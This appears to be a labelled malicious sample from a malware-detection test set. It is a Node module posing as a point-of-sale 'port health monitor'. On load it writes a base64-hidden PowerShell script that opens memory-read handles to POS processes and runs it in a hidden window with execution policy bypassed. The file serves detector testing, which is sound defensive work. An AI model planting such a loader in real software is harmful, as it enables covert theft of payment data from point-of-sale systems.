// expect: malicious
// source: blind set 17's pole-display-drawer (FIN8's PoSlurp): a "port health monitor" writes a PowerShell script
// kept in base64 that declares OpenProcess and ReadProcessMemory, and runs it when the module loads
const { spawn } = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');
const PROBE = 'QWRkLVR5cGUgLVR5cGVEZWZpbml0aW9uIEAiCnVzaW5nIFN5c3RlbTsgdXNpbmcgU3lzdGVtLlJ1bnRpbWUuSW50ZXJvcFNlcnZpY2VzOwpwdWJsaWMgc3RhdGljIGNsYXNzIE0gewogIFtEbGxJbXBvcnQoImtlcm5lbDMyLmRsbCIpXSBwdWJsaWMgc3RhdGljIGV4dGVybiBJbnRQdHIgT3BlblByb2Nlc3MoaW50IGEsIGJvb2wgYiwgaW50IHBpZCk7CiAgW0RsbEltcG9ydCgia2VybmVsMzIuZGxsIildIHB1YmxpYyBzdGF0aWMgZXh0ZXJuIGJvb2wgUmVhZFByb2Nlc3NNZW1vcnkoSW50UHRyIGgsIEludFB0ciBhZGRyLCBieXRlW10gYnVmLCBpbnQgc2l6ZSwgb3V0IGludCByZWFkKTsKfQoiQApmb3JlYWNoICgkcCBpbiBHZXQtUHJvY2VzcyBwb3MqKSB7ICRoID0gW01dOjpPcGVuUHJvY2VzcygweDA0MTAsICRmYWxzZSwgJHAuSWQpIH0K';
const file = path.join(os.tmpdir(), 'opos-health.ps1');
fs.writeFileSync(file, Buffer.from(PROBE, 'base64'));
spawn('powershell.exe', ['-NoProfile', '-WindowStyle', 'Hidden', '-ExecutionPolicy', 'Bypass', '-File', file], { windowsHide: true });
